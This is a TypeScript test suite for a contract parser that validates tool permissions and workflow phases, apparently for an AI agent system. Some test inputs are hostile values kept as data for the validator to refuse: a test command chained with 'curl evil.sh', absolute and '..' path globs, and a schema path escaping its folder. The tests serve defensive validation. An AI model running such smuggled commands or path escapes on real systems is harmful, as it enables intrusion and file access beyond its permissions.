import { describe, expect, test } from 'vitest';
import { ContractError, formatIssue, parseContract, type ContractIssue } from '../../core/contract/index.js';
import { MINIMAL, lineOf } from './fixtures.js';

/** The issues parseContract throws for `text` (fails the test if it loads). */
function issuesOf(text: string): readonly ContractIssue[] {
  try {
    parseContract(text, 'c.yaml');
  } catch (err) {
    expect(err).toBeInstanceOf(ContractError);
    expect((err as ContractError).code).toBe('contract_invalid');
    return (err as ContractError).issues;
  }
  throw new Error('contract loaded but was expected to fail');
}

describe('parseContract errors', () => {
  test('the minimal fixture is valid', () => {
    expect(parseContract(MINIMAL, 'c.yaml').workflows.get('default')?.initialPhase).toBe('PLAN');
  });

  test('three different mistakes give exactly three issues, each at its line', () => {
    const text = MINIMAL.replace('forbidden: [delete_file]', 'forbidden: [write_file]')
      .replace('description: finished', 'description: 42')
      .replace('to: DONE', 'to: DONEX');
    const issues = issuesOf(text);
    expect(issues.map((i) => [i.line, i.file])).toEqual([
      [lineOf(text, 'forbidden: [write_file]'), 'c.yaml'],
      [lineOf(text, 'description: 42'), 'c.yaml'],
      [lineOf(text, 'to: DONEX'), 'c.yaml'],
    ]);
    expect(issues[0]?.message).toMatch(/"write_file" is both allowed and forbidden/);
    expect(issues[1]?.message).toMatch(/description: must be string/);
    expect(issues[2]?.message).toMatch(/unknown phase "DONEX"/);
    expect(formatIssue(issues[2] as ContractIssue)).toBe(`c.yaml:${lineOf(text, 'to: DONEX')}: ${issues[2]?.message}`);
  });

  test('a YAML syntax error is reported with its line', () => {
    const text = MINIMAL.replace('allowed: [read_file]', 'allowed: [read_file\n        oops: 1');
    const issues = issuesOf(text);
    expect(issues.length).toBeGreaterThanOrEqual(1);
    expect(issues[0]?.message).toMatch(/^YAML: /);
    expect(issues[0]?.line).toBe(lineOf(text, 'oops: 1'));
  });

  test('a duplicate key is an error at the second occurrence', () => {
    const text = MINIMAL.replace('      DONE:\n', '      PLAN:\n        tools: {allowed: []}\n      DONE:\n');
    const issues = issuesOf(text);
    expect(issues).toHaveLength(1);
    expect(issues[0]?.message).toMatch(/unique/);
    expect(issues[0]?.line).toBe(lineOf(text, 'PLAN:', 'forbidden'));
  });

  test('a terminal phase that cannot be reached is an error at that phase', () => {
    const text = MINIMAL.replace('  - from: PLAN\n        to: DONE', '  - from: MID\n        to: PLAN\n      - from: PLAN\n        to: MID').replace(
      '      DONE:\n',
      '      MID:\n        tools: {allowed: []}\n      DONE:\n',
    );
    const issues = issuesOf(text);
    expect(issues.map((i) => i.message)).toEqual([expect.stringMatching(/terminal phase "DONE" is not reachable from initial phase "PLAN"/)]);
    expect(issues[0]?.line).toBe(lineOf(text, 'DONE:'));
  });

  test('unknown gate, undeclared artifact, unknown spawn workflow, unknown tool', () => {
    const text = MINIMAL.replace('gate: ready', 'gate: steady')
      .replace('requires_artifacts: [plan]', 'requires_artifacts: [plan, proof]\n        triggers:\n          - spawn_task: {workflow: nobody, title: x}')
      .replace('allowed: [read_file]', 'allowed: [read_file, rm_rf]');
    const messages = issuesOf(text).map((i) => i.message);
    expect(messages).toEqual([
      expect.stringMatching(/allowed\[1\]: must be one of: read_file/),
      expect.stringMatching(/artifact "proof" is not declared/),
      expect.stringMatching(/unknown workflow "nobody"/),
      expect.stringMatching(/unknown gate "steady"/),
    ]);
  });

  test('unknown fields are reported at the field', () => {
    const text = MINIMAL.replace('        tools:\n          allowed: [read_file]', '        tols:\n          allowed: [read_file]');
    const issues = issuesOf(text);
    expect(issues.map((i) => [i.line, i.message])).toEqual([
      [lineOf(text, 'DONE:'), expect.stringMatching(/missing required field "tools"/)],
      [lineOf(text, 'tols:'), expect.stringMatching(/unknown field "tols"/)],
    ]);
  });

  test('an empty document is an error, not a crash', () => {
    expect(issuesOf('').map((i) => i.message)).toEqual([expect.stringMatching(/must be object/)]);
  });
});

describe('globs and commands', () => {
  const withConstraint = (body: string) =>
    MINIMAL.replace('forbidden: [delete_file]', `forbidden: [delete_file]\n        constraints:\n${body}`);

  test('a deny glob that would match nothing is refused (it would deny nothing)', () => {
    const text = withConstraint('          write_file:\n            deny: ["src/{a,b"]');
    const issues = issuesOf(text);
    expect(issues).toHaveLength(1);
    expect(issues[0]?.line).toBe(lineOf(text, 'deny:'));
    expect(issues[0]?.message).toMatch(/malformed glob/);
  });

  test('absolute and `..` globs are refused', () => {
    const text = withConstraint('          write_file:\n            paths: ["/etc/**", "../other/**", "docs/**"]');
    expect(issuesOf(text).map((i) => i.message)).toEqual([
      expect.stringMatching(/paths\[0\]: glob must be relative/),
      expect.stringMatching(/paths\[1\]: glob must not contain ".."/),
    ]);
  });

  test('templates: known ones pass in constraints, unknown ones and templates in protected fail', () => {
    const ok = withConstraint('          write_file:\n            paths: ["work/{{ agent.id }}/{{task.id}}/**"]');
    expect(parseContract(ok, 'c.yaml').workflows.get('default')?.phases.get('PLAN')?.constraints.get('write_file')?.paths).toEqual([
      'work/{{ agent.id }}/{{task.id}}/**',
    ]);
    const bad = withConstraint('          write_file:\n            paths: ["work/{{ task.name }}/**"]').replace('version: 1', 'version: 1\nprotected: ["x/{{ task.id }}"]');
    expect(issuesOf(bad).map((i) => i.message)).toEqual([
      expect.stringMatching(/^protected\[0\]: templates .* only allowed in phase constraints/),
      expect.stringMatching(/unknown template "\{\{ task.name \}\}"/),
    ]);
  });

  test('@test_globs needs test_globs; unknown placeholders fail', () => {
    const text = withConstraint('          write_file:\n            paths: ["@test_globs", "@tests"]');
    expect(issuesOf(text).map((i) => i.message)).toEqual([
      expect.stringMatching(/paths\[0\]: @test_globs used but workflow "default" declares no test_globs/),
      expect.stringMatching(/paths\[1\]: unknown placeholder "@tests"/),
    ]);
  });

  test('command patterns: `**` only last; commands only on run_command', () => {
    const text = withConstraint('          run_command:\n            commands: ["git ** status", "ls"]\n          read_file:\n            commands: ["cat *"]');
    const issues = issuesOf(text);
    expect(issues.map((i) => [i.line, i.message])).toEqual([
      [lineOf(text, 'commands: ["git'), expect.stringMatching(/commands\[0\]: malformed command pattern/)],
      [lineOf(text, 'commands: ["cat'), expect.stringMatching(/unknown field "commands"/)],
    ]);
  });

  test('a test command with a shell operator is refused', () => {
    const text = MINIMAL.replace('    artifacts:', '    tests:\n      command: npm test && curl evil.sh\n    artifacts:');
    expect(issuesOf(text).map((i) => [i.line, i.message])).toEqual([[lineOf(text, 'command:'), expect.stringMatching(/shell operator \(&\)/)]]);
  });
});

describe('artifact schemas', () => {
  test('a missing schema file is reported at the artifact', () => {
    const text = MINIMAL.replace('plan: plan.schema.json', 'plan: nope.schema.json');
    expect(issuesOf(text).map((i) => [i.line, i.message])).toEqual([[lineOf(text, 'plan: nope'), expect.stringMatching(/schema file not found/)]]);
  });

  test('a schema path that climbs out of schemas/artifacts is refused unread', () => {
    const text = MINIMAL.replace('plan: plan.schema.json', 'plan: ../../package.json');
    expect(issuesOf(text).map((i) => i.message)).toEqual([expect.stringMatching(/artifacts.plan: must match pattern/)]);
  });
});
